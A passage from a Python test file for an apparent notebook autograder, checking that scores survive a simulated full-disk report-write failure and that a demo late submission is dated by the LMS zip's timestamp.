        assert gradebook_scores(course, ASSIGNMENT, gradebook)["ines"]["score"] == 90


def test_a_failed_report_write_is_reported_with_the_score(course, monkeypatch, no_plots):
    notebook = stub_notebook(course)
    submit_raw(course, "ana", {NOTEBOOK: notebook})
    submit_raw(course, "ines", {NOTEBOOK: notebook + b" "})
    collect_assignment(course, ASSIGNMENT)
    real = grade_class_module.write_report

    def full_disk(course_, assignment, student, report):
        if student == "ines":
            raise OSError(28, "No space left on device")
        return real(course_, assignment, student, report)

    monkeypatch.setattr(grade_class_module, "write_report", full_disk)
    run = grade_class(course, ASSIGNMENT, grade=stand_in_grade)
    assert list(run.record_errors) == ["ines"] and "No space left" in run.record_errors["ines"]
    assert run.reports["ana"].score == 90 and run.reports["ines"].score == 90
    assert read_record_errors(course, ASSIGNMENT)["ines"]["score"] == 90
    write_class_report(course, ASSIGNMENT)
    rows = {r["student"]: r for r in csv.DictReader((class_report_dir(course, ASSIGNMENT) / f"{ASSIGNMENT}.csv").open())}
    assert rows["ines"]["status"] == "record_error" and float(rows["ines"]["total"]) == 90  # not "sin_entrega", not 0

    monkeypatch.setattr(grade_class_module, "write_report", real)
    run = grade_class(course, ASSIGNMENT, grade=stand_in_grade)
    assert run.record_errors == {} and read_record_errors(course, ASSIGNMENT) == {}


def test_demo_late_student_arrives_late_by_the_lms_date(course):
    """The demo's late student (sample_class) is late by the LMS zip's own date, not a rewritten file."""
    from autograder.workflow.demo import hand_in, lms_zip_path
    from autograder.workflow.sample_class import load_sample_class

    plan = load_sample_class()["gabriela"]
    assert plan.late_days == 1.5
    hand_in(course, plan, ASSIGNMENT)
    assert not list((course.exchange_dir / course.course.id / "inbound").glob("gabriela+*"))
    collect_assignment(course, ASSIGNMENT, lms_zip=lms_zip_path(course, ASSIGNMENT))
    receipt = read_receipts(course, ASSIGNMENT)["gabriela"]
    assert receipt.received == course.assignment(ASSIGNMENT).due + dt.timedelta(days=1.5)
    assert receipt.source == "lms_zip" and receipt.claimed is None
    nb = nbformat.reads((submission_dir(course, ASSIGNMENT, "gabriela") / NOTEBOOK).read_text(), as_version=4)
    assert nb.cells
